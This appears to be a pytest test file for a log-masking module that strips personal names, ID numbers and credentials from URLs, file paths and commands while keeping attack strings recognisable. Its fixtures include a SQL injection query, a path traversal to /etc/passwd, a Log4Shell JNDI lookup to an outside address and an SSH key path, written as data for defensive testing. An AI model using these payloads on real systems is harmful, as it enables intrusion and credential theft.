"""What stays of addresses, names and commands."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.masking import command, masked, query, route, url


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("/api/v1/orders/list.php", "/api/v1/orders/list.php"),
        ("/patient/欧阳修/20260301778", "/patient/*/*"),
        ("/user/canary.chen/edit", "/user/*.*/edit"),
        ("/a?name=%E6%AC%A7&id=110101199003070038", "/a?name=*&id=*"),
        ("/a?id=1' union select password from users--", "/a?id=*' union select password from users--"),
        ("/..%2f..%252fetc/passwd", "/..%2f..%252fetc/passwd"),
        ("/x?q=${jndi:ldap://203.0.113.9/a}", "/x?q=${jndi:ldap://*.*.*.*/*}"),
        ("https://li.na:secret@his.example/a?b=c#d", "https://his.example/a?b=*"),
        ("//his.example/a.html", "//his.example/a.html"),
        ("/q?%E6%AC%A7%E9%98%B3", "/q?*"),
    ],
)
def test_an_address_keeps_its_route_and_the_face_of_an_attack(text: str, kept: str) -> None:
    assert url(text) == kept


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("C:\\Users\\zhang.wei\\欧阳修 110101199003070038.docx", "C:\\Users\\*\\* N.docx"),
        ("/home/li.na/.ssh/id_rsa", "/home/*/.ssh/id_rsa"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        ("%E6%AC%A7%20a", "*%20a"),
    ],
)
def test_a_name_keeps_its_ascii_without_homes_and_long_numbers(text: str, kept: str) -> None:
    assert masked(text) == kept


def test_a_command_loses_what_stands_in_quotes() -> None:
    assert command("mysql -e \"select '欧阳'\" his") == 'mysql -e "*" his'


@given(st.text())
def test_reducing_twice_changes_nothing_and_leaves_ascii(text: str) -> None:
    for reduce in (url, route, query, masked):
        once = reduce(text)
        assert reduce(once) == once
        assert once.isascii()


def test_long_hostile_text_takes_no_long_time() -> None:
    for text in ("%25" * 50_000, "/" * 200_000, "a=" * 100_000, "'" * 200_000, "users/" * 30_000, "a" * 300_000):
        assert url(text) is not None
        assert command(text) is not None
